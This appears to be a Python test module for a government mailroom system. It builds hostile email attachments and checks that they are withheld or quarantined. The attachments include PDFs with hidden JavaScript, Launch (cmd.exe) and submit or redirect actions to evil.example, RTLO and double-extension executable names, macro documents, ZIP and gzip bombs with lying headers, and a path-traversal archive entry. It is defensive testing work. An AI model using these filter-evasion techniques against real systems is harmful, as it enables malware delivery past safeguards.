"""Attachments an attacker hopes the mailroom forwards to the agency's leaders: programs,
scripts, macro documents, shortcuts, disk images, web pages with script, PDFs with actions
hidden from a byte search, polyglots and archive bombs. Each rides on an authenticated official
citizen's dossier that the shipped rules forward to the Chief of Office; the forward must go out
without the file and name it among the files withheld. (A dossier, not an official document:
on an official document a file that could not be read may hide a secrecy mark, and the mail is
then announced without any content, which would not show the withholding.)

The builders here (PDFs by hand, with object streams; ZIPs with honest or lying sizes; nested
archives; DOCX) are shared with `tests/test_attachment_policy.py`.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from email.message import EmailMessage
from email.policy import SMTP

from tests.conftest import AUTHSERV_ID
from tests.hostile import Attack, Outcome

# --- PDFs -----------------------------------------------------------------------------------

PAGE_TEXT = b"BT /F1 12 Tf 72 720 Td (Cong van so 1000/UBND-KT) Tj ET"


def pdf(catalog: bytes = b"", page: bytes = b"", extra: Iterable[bytes] = (),
        packed: bool = False, text: bytes = PAGE_TEXT, pages: int = 1) -> bytes:
    """A PDF built by hand: a catalog (object 1) with `catalog` added to its dictionary,
    `pages` pages carrying `text` (and `page` added to the first one's dictionary), a font,
    then the `extra` objects, numbered from 6 + 2 * (pages - 1) on. `packed` writes a
    PDF 1.5 with every object but the page contents inside a compressed object stream and a
    cross-reference stream (what a byte search of the file cannot see)."""
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(pages)).encode()
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
                            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages]
    for i in range(pages):
        content = 4 + 2 * i
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
                       b" /Resources << /Font << /F1 %d 0 R >> >> " % (content, 3 + 2 * pages)
                       + (page if i == 0 else b"") + b" >>")
        objects.append(b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    objects += list(extra)
    return _packed(objects) if packed else plain_pdf(objects)


def plain_pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1, the first the catalog) with a classic
    cross-reference table."""
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return out


def _packed(objects: list[bytes]) -> bytes:
    """Objects that are not streams go into one compressed object stream; streams stay plain;
    a cross-reference stream indexes both."""
    inside = [n for n, body in enumerate(objects, 1) if b"stream\n" not in body]
    outside = [n for n in range(1, len(objects) + 1) if n not in inside]
    heads, bodies, at = [], b"", 0
    for n in inside:
        heads.append(b"%d %d" % (n, at))
        bodies += objects[n - 1] + b"\n"
        at = len(bodies)
    header = b" ".join(heads) + b"\n"
    packed = zlib.compress(header + bodies)
    stream_number = len(objects) + 1
    xref_number = len(objects) + 2
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offsets: dict[int, int] = {}
    for n in outside:
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + objects[n - 1] + b"\nendobj\n"
    offsets[stream_number] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (stream_number, len(inside), len(header), len(packed))
            + packed + b"\nendstream\nendobj\n")
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for n in range(1, xref_number + 1):
        if n in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[n], 0))
        else:
            rows.append(struct.pack(">BIH", 2, stream_number, inside.index(n)))
    table = b"".join(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
            b"stream\n" % (xref_number, xref_number + 1, len(table)) + table
            + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return out


# One PDF per kind of active content; object 6 is the first extra object of a one-page PDF.
PDF_ACTIVE: dict[str, bytes] = {
    "javascript-hex-name": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "javascript-names-tree": pdf(b"/Names << /JavaScript 6 0 R >>",
                                 extra=[b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"]),
    "javascript-packed": pdf(b"/OpenAction 6 0 R", packed=True,
                             extra=[b"<< /S /JavaScript /JS (app.launchURL('x')) >>"]),
    "launch-hex-name": pdf(page=b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >>"),
    "embedded-file-hex-name": pdf(b"/Names << /EmbeddedF#69les << /Names [(a.exe) 6 0 R] >> >>",
                                  extra=[b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                                         b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ"
                                         b"\nendstream"]),
    "file-attachment-annotation": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
    "uri-open-action": pdf(b"/OpenAction << /S /URI /URI (http://evil.example/x) >>"),
    "submit-form": pdf(page=b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
                            b"/A << /S /SubmitForm /F (http://evil.example/) >> >>]"),
    "import-data": pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
                            b"/A << /S /ImportData /F (x.fdf) >> >>]"),
    "gotor-remote": pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
                             b"/A << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>]"),
    "xfa": pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >>",
               extra=[b"<< /Length 5 >>\nstream\n<xdp>\nendstream"]),
    "rich-media": pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
    "field-additional-action": pdf(
        b"/AcroForm << /Fields [6 0 R] >>",
        extra=[b"<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (1) >> >> >>"]),
    "next-chain-after-goto": pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
                                 b"/Next << /S /URI /URI (http://evil.example/) >> >>"),
}
# Ordinary PDFs: a hyperlink the reader clicks, an open action that shows page one.
PDF_LINK = pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                    b"/A << /S /URI /URI (https://tayninh.gov.vn/) >> >>]")
PDF_OPEN_AT_PAGE = pdf(b"/OpenAction [3 0 R /Fit] /PageMode /UseNone")

# --- archives ------------------------------------------------------------------------------


def zipped(entries: Iterable[tuple[str, bytes]],
           method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def zipped_zeros(name: str, size: int) -> bytes:
    """A ZIP with one entry of `size` zero bytes, written a megabyte at a time (a bomb is never
    held in memory whole)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            left = size
            while left > 0:
                entry.write(bytes(min(left, 1 << 20)))
                left -= 1 << 20
    return out.getvalue()


def lying(archive: bytes, declared: int) -> bytes:
    """`archive` (one entry, no ZIP64) with the entry's uncompressed size set to `declared` in
    both its local and its central header."""
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = out.find(signature) + offset
        out[at:at + 4] = struct.pack("<I", declared)
    return bytes(out)


def gzipped_zeros(size: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as stream:
        left = size
        while left > 0:
            stream.write(bytes(min(left, 1 << 20)))
            left -= 1 << 20
    return out.getvalue()


def nested(levels: int, inner: tuple[str, bytes] = ("don.txt", b"don de nghi")) -> bytes:
    """A ZIP inside a ZIP … `levels` ZIPs deep, `inner` in the deepest."""
    data = zipped([inner])
    for level in range(levels - 1):
        data = zipped([(f"lop{level}.zip", data)])
    return data


def tarred(entries: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
                 b'openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
                 b'ContentType="application/xml"/><Override PartName="/word/document.xml" '
                 b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
                 b'document.main+xml"/></Types>')
RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
        b'formats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>')


def paragraphs(*texts: str) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{t}</w:t></w:r></w:p>" for t in texts)
    return (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
            f'openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body>'
            f'</w:document>').encode()


def docx(*texts: str, parts: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """A DOCX as Word writes one, with `texts` as paragraphs and `parts` added."""
    return zipped([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                   ("word/document.xml", paragraphs(*texts)), *parts])


# --- the mails ------------------------------------------------------------------------------

def dossier(filename: str, data: bytes, content_type: str = "application/octet-stream") -> bytes:
    """A citizen's dossier (the shipped rules forward it to the Chief of Office) with one
    attachment, from an authenticated sender."""
    msg = EmailMessage(policy=SMTP)
    msg["Authentication-Results"] = (f"{AUTHSERV_ID}; dkim=pass header.d=gmail.com; "
                                     "dmarc=pass header.from=gmail.com")
    msg["From"] = "Nguyễn Văn An <an.nguyen@gmail.com>"
    msg["To"] = "vanthu.sxd@tayninh.gov.vn"
    msg["Subject"] = "Hồ sơ xin cấp giấy phép xây dựng"
    msg["Date"] = "Tue, 10 Nov 2026 09:00:00 +0700"
    msg["Message-ID"] = f"<{abs(hash((filename, len(data))))}@gmail.com>"
    msg.set_content("Tôi tên là Nguyễn Văn An, xin nộp hồ sơ đề nghị cấp giấy phép xây dựng "
                    "nhà ở riêng lẻ. Hồ sơ đính kèm.")
    maintype, _, subtype = content_type.partition("/")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def withheld(shown: str) -> Callable[[Outcome], None]:
    """The check of every attack here: no email ever carries the file, and either the mail is
    held for the clerk as malware with a reason naming the file (nothing sent, not even an
    acknowledgement: a program from outside is the mark of a malware mail), or the dossier is
    forwarded and the forward names the file among those withheld."""

    def check(outcome: Outcome) -> None:
        for purpose in set(outcome.purposes()):
            assert not [n for n in outcome.attachment_names(purpose) if shown in n], purpose
        if outcome.state == "quarantined":
            assert outcome.emails == [], outcome.purposes()
            assert shown in str(outcome.row.last_error), outcome.row.last_error
            return
        assert outcome.sent("forward"), outcome.purposes()
        assert not outcome.attachment_names("forward"), outcome.attachment_names("forward")
        text = outcome.text("forward")
        assert "Không chuyển tiếp các tệp không an toàn" in text
        assert shown in text, shown

    return check


def _bytes(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _attack(name: str, tries: str, filename: str, build: Callable[[], bytes],
            content_type: str = "application/octet-stream", shown: str = "") -> Attack:
    return Attack(name=f"attachment-{name}", tries=tries,
                  shows="held as malware naming the file, or forwarded without it (listed "
                        "as withheld)",
                  build=lambda: dossier(filename, build(), content_type),
                  check=withheld(shown or filename))


MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(100)
ATTACKS = [
    _attack("exe", "a Windows program", "hoso.exe", lambda: MZ),
    _attack("scr", "a screen saver (a program)", "hinh-nen.scr", lambda: MZ),
    _attack("rtlo-exe", "a program whose name shows as .pdf (RIGHT-TO-LEFT OVERRIDE)",
            "hoso\u202efdp.exe", lambda: MZ, "application/pdf", shown="hoso"),
    _attack("double-extension", "hoso.pdf.exe", "hoso.pdf.exe", lambda: MZ),
    _attack("trailing-dot", "a program named .exe. (Windows drops the dot)", "hoso.exe.",
            lambda: MZ, shown="hoso.exe"),
    _attack("docm", "a Word document with macros", "to-trinh.docm",
            lambda: docx("Tờ trình", parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])),
    _attack("docx-with-macro", "a .docx carrying vbaProject.bin", "to-trinh.docx",
            lambda: docx("Tờ trình", parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])),
    _attack("lnk", "a Windows shortcut", "hoso.lnk",
            lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)),
    _attack("hta", "an HTML application", "hoso.hta", lambda: b"<script>alert(1)</script>"),
    _attack("js", "a JScript file", "hoso.js", lambda: b"WScript.Shell.Run('calc')",
            "text/plain"),
    _attack("html-script", "a web page with script", "hoso.html",
            lambda: b"<html><script>location='http://evil.example'</script></html>",
            "text/html"),
    _attack("svg-script", "an SVG image with an event handler", "so-do.svg",
            lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "image/svg+xml"),
    _attack("iso", "a disk image", "hoso.iso", lambda: bytes(0x8001) + b"CD001" + bytes(100)),
    *[_attack(f"pdf-{kind}", f"a PDF with {kind}", f"cong-van-{kind}.pdf",
              _bytes(data), "application/pdf")
      for kind, data in PDF_ACTIVE.items()],
    _attack("pdf-zip-polyglot", "a PDF that is also a ZIP", "cong-van.pdf",
            lambda: pdf() + zipped([("a.exe", MZ)]), "application/pdf"),
    _attack("zip-bomb", "a ZIP expanding to 120 MB (honest sizes)", "ho-so.zip",
            lambda: zipped_zeros("a.txt", 120 << 20), "application/zip"),
    _attack("zip-bomb-lying-header", "a ZIP bomb whose headers declare 1 kB", "ho-so.zip",
            lambda: lying(zipped_zeros("a.txt", 120 << 20), 1000), "application/zip"),
    _attack("nested-zip-bomb", "ZIPs in a ZIP, together 120 MB", "ho-so.zip",
            lambda: zipped([(f"{i}.zip", zipped_zeros("a.txt", 40 << 20)) for i in range(3)]),
            "application/zip"),
    _attack("gzip-bomb", "a gzip file expanding to 120 MB", "so-lieu.csv.gz",
            lambda: gzipped_zeros(120 << 20), "application/gzip"),
    _attack("docx-bomb", "a DOCX whose document.xml expands to 120 MB", "to-trinh.docx",
            lambda: docx("x", parts=[("word/header1.xml", bytes(120 << 20))])),
    _attack("bomb-named-pdf", "a ZIP bomb named scan.pdf", "scan.pdf",
            lambda: zipped_zeros("a.txt", 120 << 20), "application/pdf"),
    _attack("traversal-after-1000", "a path traversal entry after 1,000 harmless entries",
            "ho-so.zip",
            lambda: zipped([*((f"{i}.txt", b"x") for i in range(1000)),
                            ("../../evil.txt", b"x")]), "application/zip"),
    _attack("exe-in-zip", "a program inside a ZIP", "ho-so.zip",
            lambda: zipped([("ho-so/don.pdf", pdf()), ("ho-so/setup.exe", MZ)]),
            "application/zip"),
    _attack("7z", "an archive format vanthu cannot open", "ho-so.7z",
            lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40), "application/x-7z-compressed"),
    _attack("encrypted-zip", "a ZIP with a password", "ho-so.zip",
            lambda: encrypted(zipped([("don.pdf", pdf())])), "application/zip"),
]


def encrypted(archive: bytes) -> bytes:
    """`archive` with its entries flagged encrypted (what vanthu cannot look into)."""
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at != -1:
            flags = struct.unpack_from("<H", out, at + offset)[0] | 1
            struct.pack_into("<H", out, at + offset, flags)
            at = out.find(signature, at + 4)
    return bytes(out)
